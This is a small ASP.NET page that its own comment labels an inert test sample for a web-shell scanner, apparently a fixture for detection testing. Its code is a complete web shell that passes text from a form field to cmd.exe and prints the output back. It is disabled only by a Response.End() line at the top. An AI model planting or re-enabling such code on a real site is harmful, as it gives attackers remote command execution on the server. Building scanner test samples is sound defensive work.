<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<%-- shellsweep test sample: inert, never functional --%>
<% Response.End(); %>
<script runat="server">
void Run_Click(object sender, EventArgs e) {
    ProcessStartInfo psi = new ProcessStartInfo();
    psi.FileName = "cmd.exe";
    psi.Arguments = "/c " + txtArg.Text;
    psi.RedirectStandardOutput = true;
    psi.UseShellExecute = false;
    Process p = Process.Start(psi);
    lblOut.Text = Server.HtmlEncode(p.StandardOutput.ReadToEnd());
}
</script>
<form runat="server"><asp:TextBox id="txtArg" runat="server"/><asp:Button runat="server" OnClick="Run_Click" Text="Run"/><pre><asp:Label id="lblOut" runat="server"/></pre></form>
